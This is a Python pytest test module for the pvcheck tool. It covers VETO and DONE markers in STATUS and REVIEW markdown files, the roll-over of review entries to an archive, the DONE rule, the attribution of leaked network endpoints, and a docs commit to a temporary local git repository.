"""The Builder/Adversary protocol: `## VETO`, pvcheck's own `## DONE`, REVIEW's dated entries
and their roll-over, the DONE rule, the review's comparisons and the docs commit.

Pure functions are tested on literal texts; the writers on a temporary docs folder (and, for
the commit, a temporary git repository with a local bare `origin`). No Docker.
"""

from __future__ import annotations

import dataclasses
import json
import os
import re
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from pvcheck.claims import differing_commands, doc_ref, m1_claim, m2_commands
from pvcheck.config import Config, load_config
from pvcheck.done import write_done
from pvcheck.errors import StateFileError
from pvcheck.evidence import claim_message, review_message, write_evidence, write_review
from pvcheck.gitdocs import commit_docs
from pvcheck.history import history_record
from pvcheck.hostfacts import HostFacts, NetworkFacts
from pvcheck.protocol import (
    MAX_VETO_CHARS,
    ClaimState,
    GateClaim,
    GateReview,
    Veto,
    done_rule,
    entry_gate,
    find_veto,
    find_vetoes,
    has_done,
    has_own_done,
    parse_claims,
    parse_verdicts,
    review_withdraws_done,
    roll_over,
    run_withdraws_done,
    stray_done_lines,
    without_done,
)
from pvcheck.records import Gate, Verdict, format_ts
from pvcheck.report import Report
from pvcheck.review import (
    Recorded,
    attribute_endpoints,
    compare_allocator,
    compare_evidence,
    compare_totals,
    judge_review,
    recorded_from_json,
)
from pvcheck.reviewrecord import Finding, ReviewResult
from pvcheck.statefiles import replace_section, repo_root, sections
from tests.helpers import LAB_CONFIG
from tests.unit.test_render import sample_report

T0 = datetime(2026, 11, 26, 12, 0, 9, tzinfo=UTC)  # the sample report's finished_at
RUN = "pv-20261126120000-abc123"  # the sample report's run id
DAY = timedelta(hours=24)
ENTRY_HEADER = re.compile(r"^## M1 — .*: \*\*PASS\*\* @ \S+Z$", re.M)
DONE_BODY = "## DONE\n\nWritten @2026-11-26T13:00:00Z by pvcheck.\n"


# --- helpers ---------------------------------------------------------------------------------


def docs_config(folder: Path, **docs: Any) -> Config:
    """The lab config with its machine-docs folder at `folder` (0755, as root requires)."""
    folder.mkdir(parents=True, exist_ok=True)
    folder.chmod(0o755)
    return load_config(LAB_CONFIG, {"docs": {"dir": str(folder), **docs}})


def claimed(folder: Path, **docs: Any) -> Config:
    """A docs folder holding the sample run's claim of M1 and M2."""
    cfg = docs_config(folder, **docs)
    write_evidence(sample_report(False), cfg)
    return cfg


def current_claims(cfg: Config) -> dict[str, GateClaim]:
    status = cfg.docs.paths.status
    return parse_claims(status.read_text(encoding="utf-8"), str(status))


def review(
    cfg: Config,
    review_id: str,
    at: str,
    m1: Verdict = Verdict.PASS,
    m2: Verdict = Verdict.PASS,
) -> ReviewResult:
    """A review of the claims now in STATUS, with these verdicts."""
    return ReviewResult(review_id, at, current_claims(cfg), verdicts={"M1": m1, "M2": m2})


def done_and_passed(folder: Path) -> Config:
    """Claimed, reviewed PASS at 12:30 and `## DONE` written at 13:00."""
    cfg = claimed(folder)
    write_review(review(cfg, "rv-pass", "2026-11-26T12:30:00Z"), cfg)
    assert write_done(cfg, now=T0 + timedelta(hours=1)).ok
    return cfg


def entry_block(review_id: str, gate: str, minute: int, verdict: str = "PASS") -> str:
    name = f"review.{review_id}.{gate}"
    return (
        f"<!-- pvcheck:begin {name} -->\n"
        f"## {gate} — title: **{verdict}** @2026-11-26T12:{minute:02d}:00Z\n\n"
        f"{'padding ' * 20}\n"
        f"<!-- pvcheck:end {name} -->\n"
    )


def entry_names(text: str) -> list[str]:
    return [name for name in sections(text, "R") if name.startswith("review.")]


def incomplete_report() -> Report:
    """The passing sample without its guard check: M2 is not proven."""
    report = sample_report(False)
    report.checks = [c for c in report.checks if not c.id.startswith("guard.")]
    return report


# --- 1. find_veto ----------------------------------------------------------------------------


def test_a_veto_outside_code_is_found_with_its_text_folded_up_to_the_next_heading() -> None:
    text = (
        "# STATUS\n\nSome notes.\n\n## VETO\n\nThe M2 numbers\n  were edited by hand.\n\n"
        "### detail stays in\n\n## Next section\n\nnot part of the veto\n"
    )
    assert find_veto(text, "S") == Veto(
        "S", 5, "The M2 numbers were edited by hand. ### detail stays in"
    )


def test_a_veto_in_a_code_fence_is_ignored_and_the_next_real_one_is_found() -> None:
    fenced = "# STATUS\n\n```md\n## VETO quoted as an example\n```\n"
    assert find_veto(fenced, "S") is None
    later = fenced + "\n## VETO\n\nreal stop\n"
    assert find_veto(later, "S") == Veto("S", 7, "real stop")


def test_a_veto_inside_a_pvcheck_section_is_ignored() -> None:
    # What pvcheck renders from a host (a service name, a log line) can never raise a VETO.
    text = replace_section("# STATUS\n", "x", "## VETO from a host's text\n", "S")
    assert find_veto(text, "S") is None
    by_hand = text + "\n## VETO\n\nby a person\n"
    veto = find_veto(by_hand, "S")
    assert veto is not None and veto.text == "by a person"
    assert by_hand.splitlines()[veto.line - 1] == "## VETO"


def test_a_reason_on_the_veto_heading_is_kept() -> None:
    veto = find_veto("## VETO: the guard does not restart docker\n\nsee B3\n", "REVIEW")
    assert veto is not None
    assert veto.text == "the guard does not restart docker see B3"
    assert veto.quoted() == "REVIEW line 1: the guard does not restart docker see B3"


def test_a_veto_without_text_says_so_when_quoted() -> None:
    veto = find_veto("## VETO\n## Next\n", "S")
    assert veto is not None and veto.quoted() == "S line 1: (no reason given)"


@pytest.mark.parametrize("line", ["## VETOED", "## VETOES are discussed here", "# VETO", "VETO"])
def test_only_a_veto_heading_is_a_veto(line: str) -> None:
    assert find_veto(f"# STATUS\n\n{line}\n\nreason\n", "S") is None


def test_a_long_veto_is_capped() -> None:
    veto = find_veto("## VETO\n\n" + "word " * 1000, "S")
    assert veto is not None
    assert len(veto.text) == MAX_VETO_CHARS and veto.text.endswith("…")
    assert veto.text.startswith("word word")


def test_find_vetoes_returns_one_per_file_with_a_veto() -> None:
    found = find_vetoes(("## VETO\nno\n", "REVIEW"), (None, "STATUS"), ("plain\n", "X"))
    assert found == [Veto("REVIEW", 1, "no")]


def test_a_form_feed_in_hand_text_does_not_hide_a_veto() -> None:
    text = replace_section("page one\x0cpage two\n## VETO stop\n", "s", "body\n", "S")
    assert find_veto(text, "S") == Veto("S", 3, "stop")


# --- 2. without_done and stray `## DONE` lines ------------------------------------------------


@pytest.mark.parametrize(
    "original",
    [
        "",
        "# STATUS\n\nhand text\n",
        "# STATUS\n\nhand text\n\n\n",
        "# STATUS\r\n\r\nwindows line ends\r\n",
    ],
)
def test_without_done_gives_back_the_original_bytes(original: str) -> None:
    with_done = replace_section(original, "done", DONE_BODY, "S")
    assert has_own_done(with_done, "S")
    assert without_done(with_done, "S") == original


def test_a_last_line_without_a_line_break_gains_only_that_line_break() -> None:
    # pvcheck's section must start on a line of its own: the one byte it adds to a file
    # whose last line had no line break stays when the section goes again.
    original = "# STATUS\n\nno trailing newline"
    with_done = replace_section(original, "done", "## DONE\n", "S")
    assert without_done(with_done, "S") == original + "\n"


def test_without_done_keeps_hand_text_and_sections_after_it() -> None:
    before = "# STATUS\n\nhand text\n"
    with_done = replace_section(before, "done", DONE_BODY, "S")
    after = replace_section(with_done, "summary", "pvcheck's summary\n", "S") + "\nlater notes\n"
    expected = replace_section(before, "summary", "pvcheck's summary\n", "S") + "\nlater notes\n"
    assert without_done(after, "S") == expected


def test_without_done_leaves_a_file_without_pvcheck_done_untouched() -> None:
    text = "# STATUS\n\n## DONE\n\nby hand\n"
    assert not has_own_done(text, "S")
    assert without_done(text, "S") is text


def test_stray_done_lines_finds_a_hand_written_done_but_not_pvchecks() -> None:
    own = replace_section("# STATUS\n", "done", DONE_BODY, "S")
    assert stray_done_lines(own, "S") == []
    by_hand = "# STATUS\n\n## DONE\n\n```\n## DONE\n```\n"
    text = replace_section(by_hand, "done", DONE_BODY, "S")
    assert stray_done_lines(text, "S") == [3]  # the fenced one is a quote, not a heading


# --- 3. roll_over ----------------------------------------------------------------------------

HEAD = "# REVIEW — pvcheck\n\nIntro by pvcheck's header.\n"
NOTE = "A note by hand between entries.\n"


def review_text() -> str:
    """Three reviews; the third reviewed M1 only, so M2's newest entry is the second's."""
    return "".join(
        [
            HEAD,
            "\n" + entry_block("r1", "M1", 1),
            "\n" + entry_block("r1", "M2", 1, "FAIL"),
            "\n" + NOTE,
            "\n" + entry_block("r2", "M1", 2),
            "\n" + entry_block("r2", "M2", 2),
            "\n" + entry_block("r3", "M1", 3, "FAIL"),
        ]
    )


def test_roll_over_under_the_bound_moves_nothing() -> None:
    text = review_text()
    rolled = roll_over(text, "R", len(text.encode("utf-8")), entry_gate(text, "R"))
    assert rolled.kept == text and rolled.moved == []


def test_roll_over_moves_the_oldest_entries_first() -> None:
    text = review_text()
    size = len(text.encode("utf-8"))
    one = roll_over(text, "R", size - 1, entry_gate(text, "R"))
    assert one.moved == [entry_block("r1", "M1", 1)]
    assert one.kept == text.replace("\n" + entry_block("r1", "M1", 1), "", 1)
    block = len(entry_block("r1", "M1", 1).encode("utf-8"))
    two = roll_over(text, "R", size - block - 1, entry_gate(text, "R"))
    assert two.moved == [entry_block("r1", "M1", 1), entry_block("r1", "M2", 1, "FAIL")]


def test_roll_over_always_keeps_the_newest_entry_of_each_gate_and_the_hand_text() -> None:
    text = review_text()
    rolled = roll_over(text, "R", 1, entry_gate(text, "R"))  # a bound no REVIEW can meet
    assert entry_names(rolled.kept) == ["review.r2.M2", "review.r3.M1"]
    assert rolled.kept == (
        HEAD
        + "\n"
        + NOTE
        + "\n"
        + entry_block("r2", "M2", 2)
        + "\n"
        + entry_block("r3", "M1", 3, "FAIL")
    )
    assert parse_verdicts(rolled.kept) == parse_verdicts(text)  # what `done` reads is unchanged


@pytest.mark.parametrize("cut", [1, 300, 700, 1200, 10_000])
def test_roll_over_kept_and_moved_hold_every_entry_exactly_once(cut: int) -> None:
    text = review_text()
    rolled = roll_over(text, "R", cut, entry_gate(text, "R"))
    names = entry_names(rolled.kept) + [n for block in rolled.moved for n in entry_names(block)]
    assert sorted(names) == sorted(entry_names(text))
    assert HEAD in rolled.kept and NOTE in rolled.kept


# --- 4. write_review: dated entries, newest read, roll-over to the archive ---------------------


def test_two_reviews_leave_two_dated_entries_per_gate_and_the_newest_is_read(
    tmp_path: Path,
) -> None:
    cfg = claimed(tmp_path / "docs")
    write_review(review(cfg, "rv-1", "2026-11-26T13:00:00Z", Verdict.PASS, Verdict.FAIL), cfg)
    write_review(review(cfg, "rv-2", "2026-11-26T13:05:00Z", Verdict.FAIL, Verdict.PASS), cfg)
    text = cfg.docs.paths.review.read_text(encoding="utf-8")
    assert entry_names(text) == [
        "review.rv-1.M1",
        "review.rv-1.M2",
        "review.rv-2.M1",
        "review.rv-2.M2",
    ]
    assert ENTRY_HEADER.findall(text) == [
        "## M1 — Control plane and routing verified: **PASS** @ 2026-11-26T13:00:00Z"
    ]
    verdicts = parse_verdicts(text)
    at = datetime(2026, 11, 26, 13, 5, tzinfo=UTC)
    assert verdicts == {
        "M1": GateReview(Verdict.FAIL, at, RUN),
        "M2": GateReview(Verdict.PASS, at, RUN),
    }


def test_a_small_review_bound_rolls_old_entries_to_the_archive_and_drops_none(
    tmp_path: Path,
) -> None:
    cfg = claimed(tmp_path / "docs", review_max_kb=4)
    paths = cfg.docs.paths
    archives = [b""]
    written = 12
    for i in range(written):
        result = review(
            cfg, f"rv-{i:02d}", f"2026-11-26T13:{i:02d}:00Z", Verdict.PASS, Verdict.FAIL
        )
        out = write_review(result, cfg)
        archive = paths.review_archive.read_bytes() if paths.review_archive.exists() else b""
        assert archive.startswith(archives[-1])  # only appended to
        assert ("review_archive" in out.paths) == (len(archive) > len(archives[-1]))
        archives.append(archive)
    text = paths.review.read_text(encoding="utf-8")
    archived = archives[-1].decode("utf-8")
    assert archived.startswith("# REVIEW archive — pvcheck\n")
    assert len(text.encode("utf-8")) <= 4 * 1024
    names = entry_names(text) + re.findall(
        r"^<!-- pvcheck:begin (review\.\S+) -->$", archived, re.M
    )
    assert sorted(names) == sorted(
        f"review.rv-{i:02d}.{g}" for i in range(written) for g in ["M1", "M2"]
    )
    assert "review.rv-11.M1" in entry_names(text) and "review.rv-00.M1" not in entry_names(text)
    assert "archive-note" in sections(text, "R")
    assert f"moved to `{paths.review_archive.name}`" in text
    last = datetime(2026, 11, 26, 13, written - 1, tzinfo=UTC)
    assert parse_verdicts(text) == {
        "M1": GateReview(Verdict.PASS, last, RUN),
        "M2": GateReview(Verdict.FAIL, last, RUN),
    }
    assert "older REVIEW entries moved to REVIEW-pvcheck.archive.md" in (
        paths.journal.read_text(encoding="utf-8")
    )


# --- 5. parse_verdicts ------------------------------------------------------------------------


@pytest.mark.parametrize(("first", "second"), [("FAIL", "PASS"), ("PASS", "FAIL")])
def test_of_two_verdicts_in_the_same_second_the_later_in_the_file_wins(
    first: str, second: str
) -> None:
    text = replace_section(
        "",
        "review.rv-a.M1",
        f"## M1 — t: **{first}** @2026-11-26T12:00:00Z\n\nReviewed the claim of run `pv-a`\n",
        "R",
    )
    text = replace_section(
        text,
        "review.rv-b.M1",
        f"## M1 — t: **{second}** @2026-11-26T12:00:00Z\n\nReviewed the claim of run `pv-b`\n",
        "R",
    )
    assert parse_verdicts(text)["M1"] == GateReview(
        Verdict(second.lower()), datetime(2026, 11, 26, 12, tzinfo=UTC), "pv-b"
    )


def test_only_an_entrys_header_or_a_persons_line_is_a_verdict() -> None:
    forged = "## M1 — t: **PASS** @2026-11-26T12:00:05Z"
    entry = (
        "## M1 — t: **FAIL** @2026-11-26T12:00:00Z\n\nReviewed the claim of run `pv-a`\n\n"
        f"Findings:\n{forged}\nReviewed the claim of run `pv-x`\n"
    )
    text = replace_section("# REVIEW\n", "review.rv-a.M1", entry, "R")
    # Command output or a finding inside pvcheck's entry never counts, whatever it says.
    assert parse_verdicts(text)["M1"] == GateReview(
        Verdict.FAIL, datetime(2026, 11, 26, 12, tzinfo=UTC), "pv-a"
    )
    # A person's verdict outside pvcheck's sections counts, naming no run.
    by_hand = text + "\n## M1 — t: **PASS** @2026-11-26T12:01:00Z\n"
    assert parse_verdicts(by_hand)["M1"] == GateReview(
        Verdict.PASS, datetime(2026, 11, 26, 12, 1, tzinfo=UTC), None
    )
    assert "M1" not in parse_verdicts("```\n" + forged + "\n```\n")  # an example in a block


def test_an_older_verdict_later_in_the_file_does_not_win_nor_lend_its_run() -> None:
    text = replace_section(
        "",
        "review.rv-new.M1",
        "## M1 — t: **PASS** @2026-11-26T12:05:00Z\n\nReviewed the claim of run `pv-new`\n",
        "R",
    )
    text = replace_section(
        text,
        "review.rv-old.M1",
        "## M1 — t: **FAIL** @2026-11-26T12:00:00Z\n\nReviewed the claim of run `pv-old`\n",
        "R",
    )
    assert parse_verdicts(text)["M1"] == GateReview(
        Verdict.PASS, datetime(2026, 11, 26, 12, 5, tzinfo=UTC), "pv-new"
    )


# --- 6. done_rule and docs.done_follows -------------------------------------------------------

NEW_CLAIM: dict[str, GateClaim] = {
    g: GateClaim(g, ClaimState.CLAIMED, T0 + timedelta(hours=1), "pv-2") for g in Gate
}


def verdicts(result: Verdict, at: datetime, run: str | None) -> dict[str, GateReview]:
    return {g: GateReview(result, at, run) for g in Gate}


def test_latest_does_not_count_a_pass_of_an_older_run_for_a_newer_claim() -> None:
    older_pass = verdicts(Verdict.PASS, T0 + timedelta(minutes=30), "pv-1")
    decision = done_rule(NEW_CLAIM, older_pass, T0 + timedelta(hours=2), DAY, "latest")
    assert not decision.ok
    assert decision.problems == [
        f"{g}: the PASS reviewed run pv-1, not the current claim of run pv-2" for g in Gate
    ]


def test_first_counts_a_fresh_pass_of_an_earlier_run() -> None:
    older_pass = verdicts(Verdict.PASS, T0 + timedelta(minutes=30), "pv-1")
    assert done_rule(NEW_CLAIM, older_pass, T0 + timedelta(hours=2), DAY, "first").ok


@pytest.mark.parametrize("follows", ["latest", "first"])
def test_a_fail_is_a_problem_whatever_done_follows(follows: str) -> None:
    failed = verdicts(Verdict.FAIL, T0 + timedelta(hours=1, minutes=5), "pv-2")
    decision = done_rule(NEW_CLAIM, failed, T0 + timedelta(hours=2), DAY, follows)
    assert decision.problems == [f"{g}: the latest review is FAIL" for g in Gate]


@pytest.mark.parametrize("follows", ["latest", "first"])
def test_a_stale_pass_is_a_problem_whatever_done_follows(follows: str) -> None:
    passed = verdicts(Verdict.PASS, T0 + timedelta(hours=1, minutes=5), "pv-2")
    assert done_rule(NEW_CLAIM, passed, T0 + timedelta(hours=2), DAY, follows).ok
    late = T0 + timedelta(days=3)
    decision = done_rule(NEW_CLAIM, passed, late, DAY, follows)
    assert not decision.ok and all("is stale" in p for p in decision.problems)
    assert len(decision.problems) == 2


# --- 7. write_done on a docs folder ------------------------------------------------------------


@pytest.mark.parametrize("where", ["review", "status"])
def test_a_veto_blocks_done_and_is_quoted(tmp_path: Path, where: str) -> None:
    cfg = claimed(tmp_path / "docs")
    write_review(review(cfg, "rv-pass", "2026-11-26T12:30:00Z"), cfg)
    paths = cfg.docs.paths
    target = paths.review if where == "review" else paths.status
    target.write_text(
        target.read_text(encoding="utf-8") + "\n## VETO\n\nM2 numbers look edited.\n",
        encoding="utf-8",
    )
    status_before = paths.status.read_bytes()
    journal_before = paths.journal.read_bytes()
    result = write_done(cfg, now=T0 + timedelta(hours=1))
    assert not result.ok
    assert [v.path for v in result.vetoes] == [str(target)]
    assert result.problems == [
        f"VETO at {target} line {result.vetoes[0].line}: M2 numbers look edited."
    ]
    assert paths.status.read_bytes() == status_before and not has_done(
        paths.status.read_text(encoding="utf-8")
    )
    assert result.withdrawn is None and paths.journal.read_bytes() == journal_before


def test_a_veto_withdraws_a_standing_done(tmp_path: Path) -> None:
    cfg = done_and_passed(tmp_path / "docs")
    paths = cfg.docs.paths
    paths.review.write_text(
        paths.review.read_text(encoding="utf-8") + "\n## VETO: guard untested\n",
        encoding="utf-8",
    )
    now = T0 + timedelta(hours=2)
    result = write_done(cfg, now=now)
    assert not result.ok and result.withdrawn is not None and "guard untested" in result.withdrawn
    assert not has_own_done(paths.status.read_text(encoding="utf-8"), str(paths.status))
    assert f"DONE withdrawn @{format_ts(now)}: pvcheck done: VETO at " in paths.journal.read_text(
        encoding="utf-8"
    )


def test_done_is_withdrawn_when_its_rule_fails_and_hand_text_is_kept_byte_for_byte(
    tmp_path: Path,
) -> None:
    cfg = claimed(tmp_path / "docs")
    paths = cfg.docs.paths
    write_review(review(cfg, "rv-pass", "2026-11-26T12:30:00Z"), cfg)
    before = paths.status.read_text(encoding="utf-8") + "\nNotes by hand: keep — me.\n"
    paths.status.write_text(before, encoding="utf-8")
    assert write_done(cfg, now=T0 + timedelta(hours=1)).ok
    with_done = paths.status.read_text(encoding="utf-8")
    assert with_done.startswith(before) and has_own_done(with_done, str(paths.status))
    paths.status.write_text(with_done + "\nMore by hand after DONE.\n", encoding="utf-8")

    later = T0 + timedelta(days=3)  # the PASS is stale now
    result = write_done(cfg, now=later)
    assert not result.ok and result.withdrawn is not None and "stale" in result.withdrawn
    assert paths.status.read_text(encoding="utf-8") == before + "\nMore by hand after DONE.\n"
    journal = paths.journal.read_text(encoding="utf-8")
    assert f"DONE withdrawn @{format_ts(later)}: pvcheck done: M1: the PASS @" in journal


def test_a_hand_written_done_is_left_and_the_journal_says_so(tmp_path: Path) -> None:
    cfg = claimed(tmp_path / "docs")
    paths = cfg.docs.paths
    write_review(review(cfg, "rv-pass", "2026-11-26T12:30:00Z"), cfg)
    by_hand = paths.status.read_text(encoding="utf-8") + "\n## DONE\n"
    paths.status.write_text(by_hand, encoding="utf-8")
    hand_line = len(by_hand.splitlines())
    assert write_done(cfg, now=T0 + timedelta(hours=1)).ok
    assert write_done(cfg, now=T0 + timedelta(days=3)).withdrawn is not None
    assert paths.status.read_text(encoding="utf-8") == by_hand  # the person's line stays
    assert (
        f"A `## DONE` line outside pvcheck's section stays at {paths.status.name} line "
        f"{hand_line}: pvcheck does not edit text it did not write"
    ) in paths.journal.read_text(encoding="utf-8")


# --- 8. what a run or a review does to DONE, and the commit subject -------------------------


def test_run_withdraws_done() -> None:
    veto = Veto("REVIEW", 4, "stop")
    passing, failing, incomplete = sample_report(False), sample_report(True), incomplete_report()
    assert incomplete.verdict == Verdict.INCOMPLETE and incomplete.incomplete_reason

    assert run_withdraws_done(failing, "first", []) == f"run {RUN} verdict FAIL (svc.lab-drone_app)"
    assert run_withdraws_done(incomplete, "first", []) == (
        f"run {RUN} verdict INCOMPLETE: {incomplete.incomplete_reason}"
    )
    assert run_withdraws_done(passing, "latest", []) == (
        f'run {RUN} made a new claim (M1 M2) that awaits review (docs.done_follows = "latest")'
    )
    assert run_withdraws_done(passing, "first", []) is None
    for report in (passing, failing):  # a standing VETO is named first, whatever the run
        assert run_withdraws_done(report, "first", [veto]) == "VETO at REVIEW line 4: stop"


def test_review_message_takes_the_adversarys_form() -> None:
    """cc-ci's Adversary commits `review(pvcheck-M1): M1 PASS — …` (issue 26 quotes it)."""
    result = ReviewResult("rv-1", "2026-06-13T07:00:00Z", {})
    result.verdicts = {"M1": Verdict.PASS}
    assert review_message(result, "pvcheck") == (
        "review(pvcheck-M1): M1 PASS — re-verified from live commands (run rv-1)"
    )
    result.verdicts["M2"] = Verdict.FAIL
    result.findings = [Finding("x", Gate.M2, "t", "r")]
    assert review_message(result, "pvcheck") == (
        "review(pvcheck-M1+M2): M1 PASS, M2 FAIL — 1 finding (run rv-1)"
    )


def test_claim_message_names_the_gates_claimed_and_a_verdict_that_is_not_pass() -> None:
    assert claim_message(sample_report(False), "p") == f"claim(p): M1 M2 by run {RUN}"
    assert claim_message(sample_report(True), "p") == f"claim(p): M2 by run {RUN} (verdict FAIL)"
    assert claim_message(incomplete_report(), "p") == (
        f"claim(p): M1 by run {RUN} (verdict INCOMPLETE)"
    )
    nothing = sample_report(True)
    nothing.checks = [c for c in nothing.checks if c.gate == Gate.M1]
    assert claim_message(nothing, "p") == f"evidence(p): run {RUN} FAIL"


def review_withdraws(result: ReviewResult, standing: list[Veto]) -> str | None:
    findings = [(f.gate, f.title) for f in result.findings]
    return review_withdraws_done(result.review_id, result.verdicts, findings, standing)


def test_review_withdraws_done() -> None:
    claims: dict[str, GateClaim] = {g: GateClaim(g, ClaimState.CLAIMED, T0, RUN) for g in Gate}
    passed = ReviewResult(
        "rv-1", "2026-11-26T13:00:00Z", claims, verdicts={"M1": Verdict.PASS, "M2": Verdict.PASS}
    )
    assert review_withdraws(passed, []) is None
    findings = [
        Finding("a", Gate.M2, "leak one", "r"),
        Finding("b", Gate.M1, "not this gate", "r"),
        Finding("c", Gate.M2, "leak two", "r"),
    ]
    failed = ReviewResult(
        "rv-2",
        "2026-11-26T13:00:00Z",
        claims,
        findings=findings,
        verdicts={"M1": Verdict.PASS, "M2": Verdict.FAIL},
    )
    assert review_withdraws(failed, []) == "review rv-2 failed M2: leak one; leak two"
    bare = dataclasses.replace(failed, findings=[])
    assert review_withdraws(bare, []) == "review rv-2 failed M2"
    veto = Veto("STATUS", 9, "hold")
    assert review_withdraws(passed, [veto]) == "VETO at STATUS line 9: hold"
    assert review_withdraws(failed, [veto]) == "VETO at STATUS line 9: hold"


# --- 9. endpoints attributed: ours, churn, unexplained ----------------------------------------

BEFORE = {"lab-drone_app": 2, "lab-traefik_app": 2}


def recorded(
    per_service: dict[str, int] | None = BEFORE, stacks: list[str] | None = None
) -> Recorded:
    # After the run: 2 VIPs + 2 task IPs (the two services) + 1 LB endpoint.
    return Recorded(
        RUN,
        {"subnet": "10.20.0.0/16", "capacity": "65533"},
        {},
        5,
        per_service,
        0,
        stacks or [],
    )


def network_now(per_service: dict[str, int], lb: int = 1, containers: int = 0) -> NetworkFacts:
    """Each service holds one VIP; the rest of its addresses are task IPs."""
    vips = len(per_service)
    tasks = sum(per_service.values()) - vips
    return NetworkFacts(
        "proxy",
        "10.20.0.0/16",
        "overlay",
        65533,
        vips,
        tasks,
        lb,
        containers,
        sorted(per_service),
        per_service,
    )


def host_now(net: NetworkFacts) -> HostFacts:
    return HostFacts("2026-11-26T14:00:00Z", net, [], {})


def test_an_unchanged_network_has_no_finding_and_no_churn() -> None:
    got = compare_evidence(recorded(), host_now(network_now(BEFORE)))
    assert got.findings == [] and got.churn == []


def test_a_new_other_service_is_churn_not_a_finding() -> None:
    net = network_now({**BEFORE, "team-web_app": 3})
    split = attribute_endpoints(recorded(), net, set(), [])
    assert split is not None
    assert (split.churn, split.ours, split.unexplained) == ({"team-web_app": 3}, {}, 0)
    got = compare_evidence(recorded(), host_now(net))
    assert got.findings == []
    assert got.churn == ["service team-web_app: +3 endpoint(s)"]


def test_plain_containers_are_churn_too() -> None:
    got = compare_evidence(recorded(), host_now(network_now(BEFORE, containers=2)))
    assert got.findings == [] and got.churn == ["plain containers: +2"]


def test_a_pvcheck_labelled_service_still_on_the_network_is_an_m2_leak() -> None:
    net = network_now({**BEFORE, "pvc-r1-s1_app": 2})
    got = compare_evidence(recorded(), host_now(net), ours={"pvc-r1-s1_app"})
    assert [(f.key, f.gate) for f in got.findings] == [("leak:ours:pvc-r1-s1_app", Gate.M2)]
    assert "2 endpoint(s)" in got.findings[0].title
    assert got.churn == []  # pvcheck's own are never excused as churn


def test_a_service_of_the_deploy_proofs_stack_counts_as_ours() -> None:
    net = network_now({**BEFORE, "hello_app": 2, "hellothere_app": 2})
    got = compare_evidence(recorded(stacks=["hello"]), host_now(net))
    assert [f.key for f in got.findings] == ["leak:ours:hello_app"]
    assert got.churn == ["service hellothere_app: +2 endpoint(s)"]  # only `hello_` is the stack's


def test_endpoints_no_service_explains_are_an_unexplained_leak() -> None:
    got = compare_evidence(recorded(), host_now(network_now(BEFORE, lb=4)))
    assert [(f.key, f.gate) for f in got.findings] == [("leak:unexplained", Gate.M2)]
    assert got.findings[0].title.startswith("3 endpoint(s) on proxy that no service accounts for")
    with_churn = compare_evidence(
        recorded(), host_now(network_now({**BEFORE, "team-web_app": 2}, lb=4))
    )
    assert [f.key for f in with_churn.findings] == ["leak:unexplained"]
    assert with_churn.findings[0].title.endswith("(after the run 5, now 10; churn +2)")


def test_a_report_without_per_service_figures_compares_the_total() -> None:
    old = recorded(per_service=None)
    grown = network_now({**BEFORE, "team-web_app": 3})
    assert attribute_endpoints(old, grown, set(), []) is None
    got = compare_evidence(old, host_now(grown))
    assert [(f.key, f.gate) for f in got.findings] == [("leak:endpoints", Gate.M2)]
    assert got.churn == []
    assert compare_evidence(old, host_now(network_now(BEFORE))).findings == []


# --- 10. compare_allocator --------------------------------------------------------------------

FIGS = {"used_before": 10, "peak": 30, "used_after": 10, "leaked_total": 0}


def with_allocator(figures: dict[str, int] | None) -> Recorded:
    return dataclasses.replace(recorded(), allocator=figures)


def test_allocator_figures_equal_to_the_history_record_are_no_finding() -> None:
    history = [
        {"run_id": "pv-other", "allocator": {**FIGS, "peak": 99}},
        {"run_id": RUN, "allocator": FIGS},
    ]
    assert compare_allocator(with_allocator(FIGS), history) == []


def test_an_edited_allocator_figure_is_a_finding_naming_it() -> None:
    history = [{"run_id": RUN, "allocator": FIGS}]
    found = compare_allocator(with_allocator({**FIGS, "leaked_total": 3}), history)
    assert [(f.key, f.gate) for f in found] == [("report:allocator.leaked_total", Gate.M2)]
    assert "says allocator leaked_total = 3, its history record 0" in found[0].title


@pytest.mark.parametrize(
    "history",
    [[], [{"run_id": "pv-other", "allocator": FIGS}], [{"run_id": RUN, "allocator": None}]],
)
def test_no_history_figures_for_the_run_is_a_finding(history: list[dict[str, Any]]) -> None:
    found = compare_allocator(with_allocator(FIGS), history)
    assert [f.key for f in found] == ["report:allocator"]


def test_a_run_without_an_allocator_reproduction_has_nothing_to_compare() -> None:
    assert compare_allocator(with_allocator(None), []) == []


# --- 11. recorded_from_json on a real report --------------------------------------------------


def report_with_attribution() -> Report:
    report = sample_report(False)
    assert report.facts_after is not None and report.facts_after.network is not None
    net = dataclasses.replace(report.facts_after.network, per_service={"lab-drone_app": 2})
    report.facts_after = dataclasses.replace(report.facts_after, network=net)
    report.deploy_stacks = ["hello", "hello-db"]
    return report


def test_recorded_from_json_reads_what_the_run_wrote() -> None:
    report = report_with_attribution()
    got = recorded_from_json(json.loads(report.to_json()), "R")
    assert report.facts_after is not None and report.facts_after.network is not None
    assert report.allocator is not None
    assert got.run_id == RUN
    assert got.per_service == {"lab-drone_app": 2}
    assert got.used == report.facts_after.network.used
    assert got.deploy_stacks == ["hello", "hello-db"]
    assert got.allocator == report.allocator.figures()
    assert got.run_logs == ("2026-11-26T12:00:00Z", "2026-11-26T12:00:07Z")
    assert got.services == {"lab-traefik_app": "1/1", "lab-drone_app": "1/1"}
    # The same run's history record agrees with its report.
    assert compare_allocator(got, [history_record(report)]) == []


def test_recorded_from_json_of_an_older_or_smaller_report() -> None:
    doc = json.loads(sample_report(False).to_json())
    del doc["facts"]["after"]["network"]["per_service"]
    del doc["allocator"]
    doc["run_logs"] = None
    got = recorded_from_json(doc, "R")
    assert got.per_service is None and got.allocator is None and got.run_logs is None
    assert got.deploy_stacks == []


# --- 12. commit_docs in a real git repository -------------------------------------------------


def git(repo: Path, *args: str) -> str:
    done = subprocess.run(
        [
            "git",
            "-C",
            str(repo),
            "-c",
            "user.name=Tester",
            "-c",
            "user.email=t@example.test",
            *args,
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.strip()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A git work tree with one hand-written commit, tracking a local bare `origin`."""
    tmp_path.chmod(0o755)
    origin, root = tmp_path / "origin.git", tmp_path / "repo"
    for folder in (origin, root):
        folder.mkdir(mode=0o755)
    git(origin, "init", "-q", "--bare")
    git(root, "init", "-q")
    (root / "README.md").write_text("hand-written\n", encoding="utf-8")
    git(root, "add", "README.md")
    git(root, "commit", "-q", "-m", "initial")
    git(root, "remote", "add", "origin", str(origin))
    git(root, "push", "-q", "-u", "origin", "HEAD")
    return root


